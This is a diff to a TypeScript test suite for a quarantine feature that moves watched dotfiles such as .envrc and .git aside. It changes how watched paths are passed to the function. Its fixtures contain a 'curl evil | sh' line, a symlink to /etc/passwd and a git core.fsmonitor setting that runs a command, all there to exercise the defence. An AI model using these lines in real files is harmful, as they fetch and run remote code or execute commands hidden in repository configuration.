@@ -338,7 +338,7 @@ describe('quarantine (the watched names)', () => {
     fs.symlinkSync('/etc/passwd', path.join(r, '.zshrc'));
     fs.symlinkSync('/no/such/target', path.join(r, '.profile'));
     fs.writeFileSync(path.join(r, 'other.txt'), 'unwatched\n');
-    const child = inChild(`console.log(JSON.stringify(ct.quarantine(${JSON.stringify(watched)})));`);
+    const child = inChild(`console.log(JSON.stringify(ct.quarantine(${JSON.stringify(asWatched(watched))})));`);
     expect(child.signal, 'quarantine blocked on the FIFO').toBeNull();
     expect(child.stderr).toBe('');
     const moved = JSON.parse(child.stdout) as string[];
@@ -361,7 +361,7 @@ describe('quarantine (the watched names)', () => {
     const { watched } = planned([r]);
     fs.writeFileSync(path.join(r, '.envrc'), 'export A=2\n'); // an existing name is the bind's business
     const before = listing(r);
-    expect(quarantine(watched)).toEqual([]);
+    expect(quarantine(asWatched(watched))).toEqual([]);
     expect(listing(r)).toEqual(before);
   });
 
@@ -372,7 +372,7 @@ describe('quarantine (the watched names)', () => {
     const moves: string[] = [];
     for (const content of ['first\n', 'second\n']) {
       fs.writeFileSync(path.join(r, '.envrc'), content);
-      const [line] = quarantine(watched);
+      const [line] = quarantine(asWatched(watched));
       expect(line).toMatch(new RegExp(`^${path.join(r, '.envrc').replace(/[.]/g, '\\.')} → .*\\.envrc\\.sluice-quarantine-[0-9a-f]{12}$`));
       moves.push((line ?? '').split(' → ')[1] ?? '');
     }
@@ -390,7 +390,7 @@ describe('quarantine (the watched names)', () => {
     fs.writeFileSync(path.join(r, '.envrc.sluice-quarantine'), '');
     for (let n = 1; n < 100; n++) fs.writeFileSync(path.join(r, `.envrc.sluice-quarantine-${n}`), '');
     fs.writeFileSync(path.join(r, '.envrc'), 'curl evil | sh\n');
-    const moved = quarantine(watched);
+    const moved = quarantine(asWatched(watched));
     const reported = moved.some((m) => m.startsWith(`${path.join(r, '.envrc')} `));
     expect(reported || !fs.existsSync(path.join(r, '.envrc')), `${path.join(r, '.envrc')} left in place and not reported: ${JSON.stringify(moved)}`).toBe(true);
   });
@@ -406,13 +406,18 @@ describe('quarantine (the watched names)', () => {
     git(r, 'init', '-q');
     git(r, 'config', 'core.fsmonitor', `touch ${marker}; false`);
     expect(git(r, 'rev-parse', '--show-toplevel').trim()).toBe(r);
-    const [line] = quarantine(watched);
+    const [line] = quarantine(asWatched(watched));
     expect(line).toBe(`${path.join(r, '.git')} → ${quarantined(path.join(r, '.git'))}`);
     expect(git(r, 'rev-parse', '--show-toplevel').trim()).toBe(outer);
     git(r, 'status');
     expect(fs.existsSync(marker)).toBe(false);
   });
 });
+
+/** Watched names reached by their own path (the plan's `via` through a tree's descriptor is sandbox-plan's). */
+function asWatched(paths: readonly string[]): { path: string; via: string }[] {
+  return paths.map((p) => ({ path: p, via: p }));
+}
 
 /** The one quarantined sibling of `file` (`<file>.sluice-quarantine-<random hex>`), or null. */
 function quarantined(file: string): string | null {
